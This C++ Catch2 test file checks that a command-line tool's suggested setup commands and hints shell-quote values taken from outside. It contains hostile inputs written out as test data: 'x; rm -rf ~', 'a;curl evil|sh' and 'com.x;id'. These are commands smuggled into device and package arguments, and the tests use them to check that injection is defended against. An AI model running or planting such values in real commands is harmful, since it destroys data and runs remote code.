#include "runtime/contract/advice.hpp"

#include <catch2/catch.hpp>

#include "runtime/contract/operator_app.hpp"

using namespace clawperator;

TEST_CASE("packages: release and debug are each other's variant", "[contract]") {
  CHECK(alternate_variant("com.x") == "com.x.dev");
  CHECK(alternate_variant("com.x.dev") == "com.x");
  CHECK(alternate_variant("com.x.device") == "com.x.device.dev");
}

TEST_CASE("offered commands: plain words stay as they are, foreign ones are quoted", "[contract]") {
  CHECK(shell_word("emulator-5554") == "emulator-5554");
  CHECK(shell_word("192.168.1.20:5555") == "192.168.1.20:5555");
  CHECK(shell_word("x; rm -rf ~") == "'x; rm -rf ~'");
  CHECK(shell_word("") == "''");
  CHECK(setup_command("com.clawperator.operator", "") ==
        "clawperator operator setup --apk ~/.clawperator/downloads/operator.apk");
  CHECK(setup_command("com.x.dev", "S1") ==
        "clawperator operator setup --apk ~/.clawperator/downloads/operator-debug.apk --device S1 "
        "--operator-package com.x.dev");
  CHECK(setup_command("com.x;id", "a;curl evil|sh") ==
        "clawperator operator setup --apk ~/.clawperator/downloads/operator.apk "
        "--device 'a;curl evil|sh' --operator-package 'com.x;id'");
}

TEST_CASE("advice: a hint quotes what comes from outside", "[contract]") {
  const std::string device = "a;curl evil|sh";
  const std::string package = "com.x;id";
  for (const std::string& hint :
       {closed_shell_hint(package, device), wrong_variant_hint(package, device),
        silent_operator_hint(package, device), missing_service_hint(package, device)}) {
    CHECK(hint.find("--device 'a;curl evil|sh'") != hint.npos);
    CHECK(hint.find("--operator-package 'com.x;id") != hint.npos);
  }
  CHECK(absent_app_hint(device) ==
        "List the packages: clawperator packages list --device 'a;curl evil|sh'");
}
